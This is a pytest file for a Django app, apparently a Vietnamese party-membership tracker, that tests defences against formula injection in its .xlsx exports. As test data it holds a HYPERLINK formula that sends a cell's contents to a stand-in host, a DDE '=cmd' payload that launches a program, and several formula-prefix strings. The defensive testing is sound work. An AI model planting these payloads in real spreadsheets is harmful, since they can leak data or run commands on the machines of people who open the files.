"""No .xlsx export turns user data into a formula (issue 12, break 1): names, codes, decision numbers and
notes that look like formulas are written as text by the one cell writer, partytrack.spreadsheets.put;
the exporters' own SUM formulas stay live; and no exporter writes a cell any other way."""

from __future__ import annotations

import datetime
import io
import re
import sys
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.cell import cell as openpyxl_cell

from candidates.choices import Step
from candidates.importers import parse_admissions_xlsx
from organizations.models import Organization, OrganizationVersion
from partytrack import spreadsheets
from partytrack.spreadsheets import Formula, put
from quotas import importers as quota_importers
from quotas import selectors
from tests.candidates.factories import make_admission, make_candidate
from tests.reports.factories import admit, plan

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?"&B13,"Bấm vào")'
COMMAND = "=cmd|' /C calc'!A0"
HOSTILE_TEXTS = [
    HYPERLINK,
    COMMAND,
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "#N/A",
    "#REF!",
]
# The shapes of the formulas the exporters build (quotas, progress, statistics): sums, counts and
# percentages of cells of the same sheet. Written here independently of spreadsheets.Formula.
OWN_FORMULA = re.compile(
    r'^=(?:[A-Z]+\d+(?:\+[A-Z]+\d+)*|0|"—"'
    r"|SUM\([A-Z]+\d+(?::[A-Z]+\d+)?(?:,[A-Z]+\d+)*\)"
    r'|IF\(COUNT\([A-Z0-9:,]+\)=0,"—",SUM\([A-Z0-9:,]+\)\)'
    r'|IF\(AND\((?:ISNUMBER\([A-Z]+\d+\),)+[A-Z]+\d+>0\),ROUND\([A-Z]+\d+/[A-Z]+\d+\*100,1\),"—"\))$'
)


def saved(workbook: Workbook) -> Workbook:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


# ----------------------------------------------------------------------------------- the writer


def test_text_that_looks_like_a_formula_is_written_as_text():
    book = Workbook()
    for row, text in enumerate(HOSTILE_TEXTS, start=1):
        put(book.active, row, 1, text)
    put(book.active, 1, 2, -3)  # a negative number is still a number
    put(book.active, 2, 2, datetime.date(2022, 2, 11))
    put(book.active, 3, 2, "Chi bộ Thôn 1")
    sheet = saved(book).active
    for row, text in enumerate(HOSTILE_TEXTS, start=1):
        cell = sheet.cell(row, 1)
        assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s"), text  # XML reads CR as LF
        assert cell.quotePrefix, text  # Excel keeps it text when the cell is edited
    assert (sheet["B1"].value, sheet["B1"].data_type) == (-3, "n")
    assert sheet["B2"].is_date
    assert sheet["B3"].data_type == "s" and not sheet["B3"].quotePrefix


def test_an_exporters_formula_is_live_and_nothing_else_can_be_one():
    book = Workbook()
    put(book.active, 1, 1, Formula("=SUM(C5:C9)"))
    put(book.active, 2, 1, Formula('=IF(AND(ISNUMBER(C7),C7>0),ROUND(F7/C7*100,1),"—")'))
    sheet = saved(book).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=SUM(C5:C9)", "f")
    assert sheet["A2"].data_type == "f"
    for text in [HYPERLINK, COMMAND, "=Sheet2!A1", '=C5&"x"', '="Bấm vào"', "=WEBSERVICE(A1)", "SUM(A1)", "="]:
        with pytest.raises(ValueError):
            Formula(text)


def test_characters_xml_cannot_hold_are_dropped_not_fatal():
    book = Workbook()
    put(book.active, 1, 1, "Chi bộ\x0b Thôn\x01 1")
    assert saved(book).active["A1"].value == "Chi bộ Thôn 1"


# ----------------------------------------------------------------------------------- every export


@pytest.fixture
def hostile(world):
    """District A's subtree named and filled with formulas: the commune "=1+1", its cells "@SUM(A1)" and
    "-2+3", the school "+1 …", the district itself a HYPERLINK (every header prints it); an admission
    named by the issue's HYPERLINK, decided by "=cmd|…", an overdue candidate named "=1+2"."""
    names = {
        world.district_a: HYPERLINK,
        world.commune_a: "=1+1",
        world.cell_a: "@SUM(A1)",
        world.cell_a2: "-2+3",
        world.school_a: "+1 Trường",
    }
    for organization, name in names.items():
        Organization.objects.filter(pk=organization.pk).update(name=name)
        OrganizationVersion.objects.filter(organization=organization).update(name=name)  # the names of every date
        organization.refresh_from_db()
    world.admission = make_admission(
        world.cell_a,
        full_name=HYPERLINK,
        decision_number=COMMAND,
        deciding_body="@SUM(A1)",
        admitted_on=datetime.date(2025, 2, 10),
    )
    admit(world.cell_a2, "2025-03-03", full_name="-2+3 Nguyễn")
    world.candidate = make_candidate(world.cell_a, step=Step.REVIEW, full_name="=1+2")
    world.plan = plan(world.district_a, "1-KH/HU", {world.commune_a: (4, 1, 1, 1, 1), world.school_a: 2}, year=2025)
    world.term = plan(world.district_a, "2-KH/HU", {world.commune_a: 3, world.school_a: 1}, year=2025, end_year=2026)
    return world


def downloads(w) -> dict[str, str]:
    return {
        "admissions": reverse("candidates:admissions_xlsx") + "?year=2025",
        "template": reverse("candidates:admission_import_template"),
        "allocation": reverse("quotas:allocation_xlsx", args=[w.district_a.pk, 2025]) + f"?plan={w.plan.pk}",
        "term": reverse("quotas:term_xlsx", args=[w.term.pk]),
        "progress": reverse("reports:progress-xlsx", args=[w.district_a.pk]) + "?year=2025&quarter=1",
        "statistics": reverse("monitoring:statistics-xlsx", args=[w.district_a.pk]) + "?kind=year&year=2025",
        "alerts": reverse("monitoring:alerts-xlsx", args=[w.district_a.pk]),
    }


# Which hostile text each file must hold, as text.
EXPECTED = {
    "admissions": [HYPERLINK, COMMAND, "@SUM(A1)", "-2+3 Nguyễn"],
    "template": ["-2+3", "@SUM(A1)"],  # the user's cells listed in the guide sheet
    "allocation": [HYPERLINK.upper(), "=1+1", "+1 Trường"],
    "term": [HYPERLINK.upper(), "=1+1", "+1 Trường"],
    "progress": [HYPERLINK.upper(), "=1+1", "+1 Trường"],
    "statistics": [HYPERLINK.upper()],
    "alerts": ["=1+2", "@SUM(A1)"],
}
WITH_OWN_FORMULAS = {"allocation": "SUM(", "term": "SUM(", "progress": "SUM(", "statistics": "ROUND("}


@pytest.mark.parametrize("which", EXPECTED)
def test_every_export_writes_user_text_as_text_and_keeps_its_own_sums_live(which, hostile, client):
    client.force_login(hostile.staff)
    response = client.get(downloads(hostile)[which])
    assert response.status_code == 200, response.content[:300]
    found = cells(response.content)
    texts = {cell.value.strip() for cell in found if cell.data_type == "s"}
    for expected in EXPECTED[which]:
        assert any(expected.strip() in text for text in texts), (which, expected)
    risky = [cell for cell in found if cell.data_type == "s" and cell.value.lstrip()[:1] in {"=", "+", "-", "@", "＝"}]
    assert risky and all(cell.quotePrefix for cell in risky), [c.value for c in risky if not c.quotePrefix]
    formulas = [cell.value for cell in found if cell.data_type == "f"]
    assert all(OWN_FORMULA.match(formula) for formula in formulas), [f for f in formulas if not OWN_FORMULA.match(f)]
    assert not [cell for cell in found if cell.data_type == "e"]
    if which in WITH_OWN_FORMULAS:
        assert any(WITH_OWN_FORMULAS[which] in formula for formula in formulas), which


def test_exported_admissions_read_back_as_the_same_text(hostile, client):
    """Export, then import: the names and decision numbers that look like formulas come back as typed."""
    client.force_login(hostile.staff)
    book = load_workbook(io.BytesIO(client.get(downloads(hostile)["admissions"]).content))
    book.active.delete_cols(book.active.max_column)  # "Đã hủy": not a column of the import template
    buffer = io.BytesIO()
    book.save(buffer)
    parsed = parse_admissions_xlsx(buffer.getvalue(), user=hostile.staff)
    assert parsed.errors == []
    rows = {row["full_name"]: row for row in parsed.rows}
    assert rows[HYPERLINK]["decision_number"] == COMMAND and rows[HYPERLINK]["deciding_body"] == "@SUM(A1)"
    assert "-2+3 Nguyễn" in rows


def test_an_exported_allocation_reads_back_as_the_same_organizations_and_figures(hostile, client):
    client.force_login(hostile.staff)
    for which in ("allocation", "term"):
        parsed = quota_importers.read_workbook(client.get(downloads(hostile)[which]).content)
        assert parsed.problems == [], which
        assert {(row.name, row.code) for row in parsed.data_rows} == {("=1+1", "A1"), ("+1 Trường", "A2")}, which
    allocation = selectors.allocation_for(organization=hostile.district_a, year=2025, plan=hostile.plan)
    preview = quota_importers.build_preview(
        quota_importers.read_workbook(client.get(downloads(hostile)["allocation"]).content),
        candidates=[row.organization for row in allocation.rows],
        parent_name=hostile.district_a.name,
        current=allocation.values_by_organization(),
    )
    assert preview.is_clean and {row.status for row in preview.rows} == {"same"}


# ----------------------------------------------------------------------------------- no other writer


@pytest.fixture
def writes(monkeypatch) -> list[str]:
    """Every value openpyxl is given while the exporters run (ws.cell(value=…), cell.value = …,
    ws.append, ws["A1"] = …, all go through Cell._bind_value), with the code that gave it: the first
    frame outside openpyxl."""
    seen: list[str] = []
    original = openpyxl_cell.Cell._bind_value
    package = str(Path(openpyxl_cell.__file__).resolve().parent.parent)

    def recording(self, value):
        frame = sys._getframe(1)
        while frame and str(Path(frame.f_code.co_filename).resolve()).startswith(package):
            frame = frame.f_back
        seen.append(f"{frame.f_globals.get('__name__')}.{frame.f_code.co_name}" if frame else "?")
        return original(self, value)

    monkeypatch.setattr(openpyxl_cell.Cell, "_bind_value", recording)
    return seen


def test_no_exporter_writes_a_cell_but_through_the_one_writer(hostile, client, writes):
    client.force_login(hostile.staff)
    for which, url in downloads(hostile).items():
        writes.clear()
        assert client.get(url).status_code == 200, which
        assert writes, which  # the instrument sees the writes
        assert set(writes) == {"partytrack.spreadsheets.put"}, (which, set(writes))


def test_the_writer_records_a_direct_write(writes):
    """The instrument itself: a value written by hand is seen as such."""
    book = Workbook()
    book.active.append(["=1+1"])
    book.active["B1"] = "x"
    put(book.active, 1, 3, "y")
    assert writes == [f"{__name__}.test_the_writer_records_a_direct_write"] * 2 + ["partytrack.spreadsheets.put"]


def test_spreadsheets_names_every_function_it_lets_through():
    """Widening the list of functions is a decision: HYPERLINK, WEBSERVICE, INDIRECT… must never be in it."""
    assert sorted(spreadsheets.FUNCTIONS) == ["AND", "COUNT", "IF", "ISNUMBER", "ROUND", "SUM"]
